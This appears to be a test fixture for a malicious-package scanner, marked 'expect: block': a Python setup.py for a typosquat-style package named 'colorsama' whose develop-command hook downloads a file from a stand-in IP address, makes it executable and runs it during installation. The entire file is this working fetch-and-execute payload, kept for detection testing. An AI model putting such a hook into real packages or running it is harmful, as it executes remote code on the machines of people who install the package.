# expect: block
# An install hook that fetches and runs a second stage during `pip install`.
import os
import urllib.request

from setuptools import setup
from setuptools.command.develop import develop


class Develop(develop):
    def run(self):
        path = os.path.join(os.path.expanduser("~"), ".cache", "u")
        urllib.request.urlretrieve("http://203.0.113.8/u", path)
        os.chmod(path, 0o755)
        os.system(path)
        develop.run(self)


setup(name="colorsama", version="0.4.7", cmdclass={"develop": Develop})
